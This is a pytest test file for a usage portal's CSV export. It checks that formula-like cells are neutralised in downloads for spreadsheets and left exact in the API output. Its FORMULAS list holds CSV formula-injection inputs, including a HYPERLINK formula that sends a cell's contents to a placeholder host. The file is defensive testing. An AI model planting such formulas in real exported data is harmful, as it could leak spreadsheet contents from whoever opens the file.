"""The CSV of the page is for people and spreadsheets. The CSV of the API and the command line is for programs."""

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Page

from tests.portal.conftest import Open, Run
from tests.portal.customer import Customer, now
from tests.portal.page import settle, show

FORMULAS = [
    '=HYPERLINK("http://x.example?"&A1,"ok")', "+1", "-2+3", "@SUM(1)", "\t=1", " =1",
    "＝1+1", "＋1", "－1", "＠SUM(1)",
]  # fmt: skip
HARMLESS = ["Müller GmbH", "東京", "a=1", "1-2", "", "it's", 'say "hi", twice', "two\nlines"]


@pytest.fixture(scope="module")
def spreadsheet(customer: Customer) -> Customer:
    """A customer whose name is a formula, with events whose models are formulas."""
    another = customer.another()
    another.describe(displayName="=1+2")
    tokens = (str(-number) for number in range(1, 100))
    another.send(
        *((now(), {"tokens": next(tokens), "model": model, "type": "t", "ms": 1}) for model in FORMULAS + HARMLESS)
    )
    return another


def download(page: Page, customer: Customer, path: Path) -> bytes:
    show(page, customer, customer.token()["token"], "meter=tokens&group=model&refresh=0")
    settle(page)
    with page.expect_download() as download:
        page.get_by_role("button", name="Download CSV").click()
    download.value.save_as(path)
    return path.read_bytes()


def test_cells_that_a_spreadsheet_takes_for_formulas_are_disarmed(
    page: Open, spreadsheet: Customer, tmp_path: Path
) -> None:
    """N12: only text cells change. The values are negative here, and stay numbers."""
    text = download(page(), spreadsheet, tmp_path / "usage.csv").decode("utf-8-sig")

    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert {row["model"] for row in rows} == {f"'{model}" for model in FORMULAS} | set(HARMLESS)
    assert {row["subject_display_name"] for row in rows} == {"'=1+2"}
    assert {row["subject"] for row in rows} == {spreadsheet.subject}
    assert sorted(int(row["value"]) for row in rows) == sorted(-number for number in range(1, len(rows) + 1))


def test_the_file_begins_with_a_mark_so_that_spreadsheets_read_utf_8(
    page: Open, spreadsheet: Customer, tmp_path: Path
) -> None:
    """N24: Excel reads a file without one in the code page of the computer."""
    data = download(page(), spreadsheet, tmp_path / "usage.csv")

    assert data.startswith(b"\xef\xbb\xbfwindow_start,")
    assert data.count(b"\xef\xbb\xbf") == 1
    assert "Müller GmbH" in data.decode()


def test_the_csv_of_the_api_stays_exact(spreadsheet: Customer) -> None:
    """N12, N24: programs get the exact texts, without a byte order mark and without added quotes."""
    answered = spreadsheet.csv(spreadsheet.token()["token"], "tokens", groupBy="model")

    assert answered.startswith("window_start,")
    rows = list(csv.DictReader(io.StringIO(answered, newline="")))
    assert {row["model"] for row in rows} == {*FORMULAS, *HARMLESS}
    assert {row["subject_display_name"] for row in rows} == {"=1+2"}


def test_the_file_for_people_has_every_cell_of_the_answer(run: Run) -> None:
    """N12: quotes, separators and line ends in cells are read and written as RFC 4180 says."""
    answers = {
        "a,value\n": "a,value\n",
        "": "",
        "a,value\nx,-5": "a,value\nx,-5\n",
        "a,value\r\nx,-0.5\r\n": "a,value\nx,-0.5\n",
        'a,value\n"x, ""y""\nz",1\n': 'a,value\n"x, ""y""\nz",1\n',
        'a,value\n"=1,2",1\n': 'a,value\n"\'=1,2",1\n',
        "a,value\n-5,-5\n": 'a,value\n"\'-5",-5\n',
        "a,value\n,\n": "a,value\n,\n",
        "a,value\nx,=1\n": 'a,value\nx,"\'=1"\n',
        "a,value\n\u200b=1,1\n": 'a,value\n"\'\u200b=1",1\n',
    }

    made: list[Any] = run("spreadsheet", *(("csvForPeople", answered) for answered in answers))

    assert made == [f"\ufeff{wanted}" for wanted in answers.values()], json.dumps(made)
